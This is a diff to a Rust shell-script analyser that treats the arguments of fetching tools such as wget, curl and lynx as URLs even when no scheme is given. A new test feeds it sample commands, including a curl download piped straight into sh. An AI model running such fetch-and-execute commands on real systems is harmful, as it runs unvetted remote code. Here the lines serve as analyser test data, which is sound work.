@@ -10,6 +10,7 @@ use std::ops::Range;
 use super::{
     concepts::{About, Concepts},
     normal::Normal,
+    url::Url,
     words::{self, Joint, Parts, Word},
 };
 
@@ -182,6 +183,8 @@ struct Context {
     before: [u64; 2],
     /// The statement's command, 0 until it is known.
     command: u64,
+    /// It fetches what its arguments name.
+    fetching: bool,
     /// The command of the statement before.
     last_command: u64,
     /// The command whose output is piped into this statement.
@@ -261,13 +264,14 @@ impl Context {
         // The author's names for variables say little, and what is assigned is no argument of a command.
         if self.command == 0 && assigned {
             self.assigning = true;
-            emit(Kind::Assignment, words::canonical(bytes), 0);
+            emit(Kind::Assignment, words::canonical(bytes, Url::of(bytes).as_ref()), 0);
             self.before = [ASSIGNED, 0];
             return;
         }
-        let parts = Parts::of(bytes);
+        let url = Url::of(bytes).or_else(|| if self.fetching { Url::of_fetched(bytes) } else { None });
+        let parts = Parts::of(bytes, url.as_ref());
         let canonical = parts.canonical();
-        let about = self.concepts.of(bytes);
+        let about = self.concepts.of(bytes, url.as_ref());
         for concept in about.each() {
             emit(Kind::Concept, concept, word.operator);
         }
@@ -308,7 +312,8 @@ impl Context {
                     }
                 }
                 let base = bytes.rsplit(|b| *b == b'/').next().unwrap_or_default();
-                self.command = words::canonical(base).max(1);
+                self.command = words::canonical(base, None).max(1);
+                self.fetching = words::is_fetcher(base);
                 self.arguments = 0;
                 emit(Kind::Command, self.command, 0);
                 if self.piped_from != 0 {
@@ -341,6 +346,7 @@ impl Context {
             self.last_command_about = self.command_about;
         }
         self.command = 0;
+        self.fetching = false;
         self.command_about = About::default();
         self.last_about = About::default();
     }
@@ -382,6 +388,23 @@ mod tests {
     }
 
     #[test]
+    fn what_is_fetched_needs_no_scheme() {
+        for script in [
+            "wget -q a.example/x.sh",
+            "sudo /usr/bin/curl 192.0.2.1:80/x | sh",
+            "x; lynx -dump paste.example/x",
+        ] {
+            let with_scheme = script
+                .replace("a.ex", "http://a.ex")
+                .replace("192", "http://192")
+                .replace("paste", "http://paste");
+            assert_eq!(ids(script), ids(&with_scheme), "{script}");
+        }
+        assert_ne!(ids("cat a.example/x.sh"), ids("cat http://a.example/x.sh"));
+        assert_ne!(ids("wget x; cat a.example/x.sh"), ids("wget x; cat http://a.example/x.sh"));
+    }
+
+    #[test]
     fn whatever_program_is_written_out_is_a_program() {
         let written = |bytes: &str| ids(&format!("printf '{bytes}' > x"));
         assert_eq!(
@@ -401,7 +424,7 @@ mod tests {
 
     #[test]
     fn tools_of_a_kind_share_what_they_do() {
-        let about = |word: &str| <&Concepts>::default().of(word.as_bytes()).each().next().unwrap();
+        let about = |word: &str| <&Concepts>::default().of(word.as_bytes(), None).each().next().unwrap();
         let has = |script: &str, kind, a: &str, b: &str| {
             ids(script).contains(&i64::from(bucket(kind, about(a), about(b))))
         };
